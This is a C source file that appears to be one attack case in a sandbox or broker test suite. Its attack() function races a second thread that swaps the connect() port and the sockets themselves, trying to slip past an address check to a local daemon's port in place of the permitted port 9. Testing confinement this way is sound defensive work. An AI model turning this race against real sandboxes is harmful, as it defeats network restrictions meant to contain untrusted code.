/* network_race.c: a second thread changes the address while the broker may read it, and puts
 * another socket in the place of the one that is connected. Port 9 is listed, and nobody listens
 * there; the daemon is not. */
#include "attack.h"

#include <netinet/in.h>
#include <pthread.h>

static struct sockaddr_in to;
static volatile int ends;
static uint16_t ports[2];

static void *
change(void *user)
{
    int *fds = user;

    for (unsigned i = 0; !ends; i++) {
        to.sin_port = ports[i % 2];
        if (i % 64 == 0)
            (void)dup2(fds[i / 64 % 2], fds[2]);
    }
    return NULL;
}

static int
reaches(int fd, uint16_t port)
{
    struct sockaddr_in peer = {0};
    socklen_t n = sizeof peer;

    return getpeername(fd, (struct sockaddr *)&peer, &n) == 0 && peer.sin_port == port;
}

const char *
attack(hearth_call *call)
{
    const char *host = hearth_header(call, "Host"), *colon = strchr(host, ':');
    int fds[3] = {socket(AF_INET, SOCK_STREAM, 0), socket(AF_INET, SOCK_STREAM, 0),
                  socket(AF_INET, SOCK_STREAM, 0)};
    const char *got = NULL;
    pthread_t thread;

    if (fds[2] < 0 || colon == NULL)
        return "nothing: it has no socket";
    to = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    ports[0] = htons(9);
    ports[1] = htons((uint16_t)atoi(colon + 1));
    if (pthread_create(&thread, NULL, change, fds) != 0)
        return "nothing: it has no thread";
    for (int i = 0; i < 3000 && got == NULL; i++) {
        (void)connect(fds[2], (const struct sockaddr *)&to, sizeof to);
        for (int k = 0; k < 3; k++) /* what connect said may be about another socket by now */
            if (reaches(fds[k], ports[1]))
                got = "the daemon";
    }
    ends = 1;
    (void)pthread_join(thread, NULL);
    return got;
}
